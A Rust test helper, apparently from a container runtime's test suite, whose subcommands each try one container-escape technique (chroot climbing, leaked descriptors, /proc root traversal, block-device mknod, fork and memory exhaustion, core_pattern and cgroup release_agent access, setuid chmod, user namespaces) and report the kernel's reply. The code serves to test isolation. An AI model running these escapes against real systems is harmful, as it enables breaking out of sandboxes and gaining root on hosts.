//! escape: tries one way out of where it runs, and says what the kernel answered to the call that decided.
//!
//! `escape WAY [WHAT]`. It does not judge: whether anything came of it is looked at from outside, by the
//! arcade that has built the wall (`tests/book/tests/escapes.rs`). Nothing here can do lasting harm: it opens
//! what others would write to, and takes what it counts.
#![allow(clippy::print_stdout, reason = "a program talks to its user")]

mod sys;

use std::{
    env, fs, io,
    os::unix::fs::{PermissionsExt, chown},
    path::Path,
    process::{Child, Command, ExitCode, Stdio},
};

use nix::{
    errno::Errno,
    fcntl::{OFlag, openat},
    mount::{MntFlags, MsFlags, mount, umount2},
    sched::{CloneFlags, unshare},
    sys::{
        signal::{Signal, kill},
        stat::{Mode, SFlag, makedev, mknod},
    },
    unistd::{Pid, chdir, chroot, geteuid, read, sethostname},
};

/// What nobody inside may read: a file of the host.
const SECRET: &str = "/tmp/outside/secret";

/// More processes than the walls with a limit allow.
const PROCESSES: usize = 100;

/// More memory than they allow.
const MEMORY: usize = 192 << 20;

/// The words of the call that decided, and whether it went through.
type Said = Result<String, String>;

fn main() -> ExitCode {
    let args: Vec<_> = env::args().collect();
    let what = args.get(2).map_or("", String::as_str);
    let said = match args.get(1).map_or("", String::as_str) {
        "climb" => climb(),
        "descriptor" => descriptor(),
        "proc" => proc_root(),
        "kill" => kill_outside(what),
        "hostname" => hostname(),
        "mount" => mount_outside(),
        "device" => device(),
        "processes" => processes(&args[0]),
        "memory" => memory(),
        "sysctl" => sysctl(),
        "group" => group(&args[0]),
        "agent" => agent(),
        "volume" => volume(what),
        "image" => image(what),
        "setuid" => setuid(what),
        "userns" => user_namespace(),
        // What the others need: one who lingers, and one who says who it is.
        "linger" => return linger(),
        "whoami" => return whoami(),
        _ => return ExitCode::from(2),
    };
    match said {
        Ok(words) => println!("escape: got {words}"),
        Err(words) => println!("escape: refused {words}"),
    }
    ExitCode::SUCCESS
}

/// The result of a call, or `CALL = ERRNO`.
fn ask<T>(call: &str, result: Result<T, impl Into<io::Error>>) -> Result<T, String> {
    result.map_err(|error| {
        let errno = error.into().raw_os_error().map(Errno::from_raw);
        errno.map_or_else(|| format!("{call} failed"), |errno| format!("{call} = {errno:?}"))
    })
}

fn ok(call: &str) -> Said {
    Ok(format!("{call} = ok"))
}

/// The secret at a path, as the last word.
fn read_secret(path: &str, call: &str) -> Said {
    let secret = ask(call, fs::read_to_string(path))?;
    Ok(format!("{call} = ok: {}", secret.trim()))
}

/// chroot(2) forgets the working directory, and `..` stops only at the root directory.
fn climb() -> Said {
    ask("chdir(\"/\")", chdir("/"))?;
    ask("chroot(\"/tmp\")", chroot("/tmp"))?;
    (0..64).try_for_each(|_| ask("chdir(\"..\")", chdir("..")))?;
    ask("chroot(\".\")", chroot("."))?;
    read_secret(SECRET, "chroot, chdir(\"..\"), open")
}

/// Whoever started us has left a directory of the host open as descriptor 9.
fn descriptor() -> Said {
    let call = "openat(9, \"tmp/outside/secret\")";
    let file = ask(call, openat(sys::leaked(9), &SECRET[1..], OFlag::O_RDONLY, Mode::empty()))?;
    let mut secret = [0; 64];
    let length = ask("read(secret)", read(&file, &mut secret))?;
    Ok(format!("{call} = ok: {}", String::from_utf8_lossy(&secret[..length]).trim()))
}

/// A chroot has no /proc; root mounts one.
fn need_proc() -> Result<(), String> {
    if Path::new("/proc/self").exists() {
        return Ok(());
    }
    let _ = fs::create_dir("/proc");
    ask(
        "mount(\"proc\")",
        mount(Some("proc"), "/proc", Some("proc"), MsFlags::empty(), None::<&str>),
    )
}

/// The root directory of every process that can be seen is a way in.
fn proc_root() -> Said {
    need_proc()?;
    let call = "open(\"/proc/PID/root/..\")";
    let entries = ask("open(\"/proc\")", fs::read_dir("/proc"))?;
    let names = entries.flatten().filter_map(|it| it.file_name().into_string().ok());
    let mut last = Err(format!("{call} = ENOENT"));
    for pid in names.filter(|name| name.bytes().all(|byte| byte.is_ascii_digit())) {
        last = read_secret(&format!("/proc/{pid}/root{SECRET}"), call);
        if last.is_ok() {
            break;
        }
    }
    last
}

fn kill_outside(pid: &str) -> Said {
    let pid = Pid::from_raw(pid.parse().map_err(|_| "no PID".to_owned())?);
    ask("kill(PID, SIGKILL)", kill(pid, Signal::SIGKILL))?;
    ok("kill(PID, SIGKILL)")
}

fn hostname() -> Said {
    ask("sethostname(\"escaped\")", sethostname("escaped"))?;
    ok("sethostname(\"escaped\")")
}

fn tmpfs(name: &str, at: &str) -> nix::Result<()> {
    mount(Some(name), at, Some("tmpfs"), MsFlags::empty(), None::<&str>)
}

fn mount_outside() -> Said {
    ask("mount(\"tmpfs\", \"/mnt\")", tmpfs("escaped", "/mnt"))?;
    ok("mount(\"tmpfs\", \"/mnt\")")
}

/// A node for a disk of the host; reading it would be reading all files of the host.
fn device() -> Said {
    let node = "/tmp/disk";
    let call = "mknod(\"disk\", S_IFBLK)";
    let made = mknod(node, SFlag::S_IFBLK, Mode::S_IRUSR | Mode::S_IWUSR, makedev(7, 0));
    ask(call, made)?;
    let opened = ask("open(\"disk\")", fs::File::open(node));
    let _ = fs::remove_file(node);
    opened?;
    ok("mknod, open(\"disk\")")
}

/// A fork bomb with an end: children that linger until all are there.
fn processes(program: &str) -> Said {
    let mut children: Vec<Child> = Vec::new();
    let mut refused = None;
    while children.len() < PROCESSES && refused.is_none() {
        let mut child = Command::new(program);
        match child.arg("linger").stdin(Stdio::piped()).spawn() {
            Ok(child) => children.push(child),
            Err(error) => refused = Some(error),
        }
    }
    // `wait` closes the pipe first, and with its end a child ends.
    children.iter_mut().for_each(|child| drop(child.wait()));
    match refused {
        Some(error) => ask("fork()", Err(error)),
        None => Ok(format!("fork() x {PROCESSES} = ok")),
    }
}

fn linger() -> ExitCode {
    let _ = io::stdin().lines().count();
    ExitCode::SUCCESS
}

fn memory() -> Said {
    let taken = vec![1_u8; MEMORY];
    let sum: usize = taken.iter().step_by(4096).map(|&byte| usize::from(byte)).sum();
    Ok(format!("{} MiB written = ok", (sum * 4096) >> 20))
}

/// What it says is a program that the host's kernel runs as root; we only open it.
fn sysctl() -> Said {
    need_proc()?;
    let opened = fs::File::options().write(true).open("/proc/sys/kernel/core_pattern");
    ask("open(\"core_pattern\", O_WRONLY)", opened)?;
    ok("open(\"core_pattern\", O_WRONLY)")
}

/// Does something with a hierarchy of control groups, mounted with these options; v2 has none.
fn in_hierarchy(kind: &str, options: Option<&str>, deed: impl FnOnce(&Path) -> Said) -> Said {
    let at = Path::new("/tmp/groups");
    ask("mkdir(\"groups\")", fs::create_dir_all(at))?;
    let mounted = mount(Some("cgroup"), at, Some(kind), MsFlags::empty(), options);
    let said = ask(&format!("mount(\"{kind}\")"), mounted).and_then(|()| deed(at));
    let _ = umount2(at, MntFlags::MNT_DETACH);
    let _ = fs::remove_dir(at);
    said
}

/// Out of the group with the limit, into the topmost that a mount of the hierarchy shows.
fn group(program: &str) -> Said {
    let leave = |at: &Path| {
        ask("write(\"cgroup.procs\")", fs::write(at.join("cgroup.procs"), "0"))?;
        processes(program)
    };
    let refused = |said: &Said| said.as_ref().is_err_and(|words| words.starts_with("mount("));
    let said = in_hierarchy("cgroup", Some("pids"), leave);
    if !refused(&said) {
        return said;
    }
    // The other version may have the controller.
    let other = in_hierarchy("cgroup2", None, leave);
    if refused(&other) { said } else { other }
}

/// What it says is a program that the host's kernel runs as root; we only open it. A hierarchy of
/// version 1 can be had on every machine: one with a name, and no controller.
fn agent() -> Said {
    in_hierarchy("cgroup", Some("none,name=arcade"), |at| {
        let opened = fs::File::options().write(true).open(at.join("release_agent"));
        ask("open(\"release_agent\", O_WRONLY)", opened)?;
        ok("mount(\"cgroup\"), open(\"release_agent\", O_WRONLY)")
    })
}

/// A volume that was mounted where the image has a link.
fn volume(path: &str) -> Said {
    let call = format!("open({path:?})");
    ask(&call, fs::File::open(path))?;
    ok(&call)
}

/// A file that every container of the image will read.
fn image(path: &str) -> Said {
    ask("open(image, O_WRONLY)", fs::write(path, "escaped\n"))?;
    ok("open(image, O_WRONLY), write")
}

/// A program that whoever runs it on the host runs as root.
fn setuid(program: &str) -> Said {
    ask("chown(program, 0)", chown(program, Some(0), Some(0)))?;
    let mode = fs::Permissions::from_mode(0o4755);
    ask("chmod(program, 04755)", fs::set_permissions(program, mode))?;
    ok("chmod(program, 04755)")
}

fn whoami() -> ExitCode {
    println!("uid {}", geteuid());
    ExitCode::SUCCESS
}

/// Whoever may make a user namespace is root in it, and reaches more of the kernel.
fn user_namespace() -> Said {
    let kinds = CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS;
    ask("unshare(CLONE_NEWUSER)", unshare(kinds))?;
    ask("mount(\"tmpfs\")", tmpfs("root-again", "/tmp"))?;
    ok("unshare(CLONE_NEWUSER), mount")
}
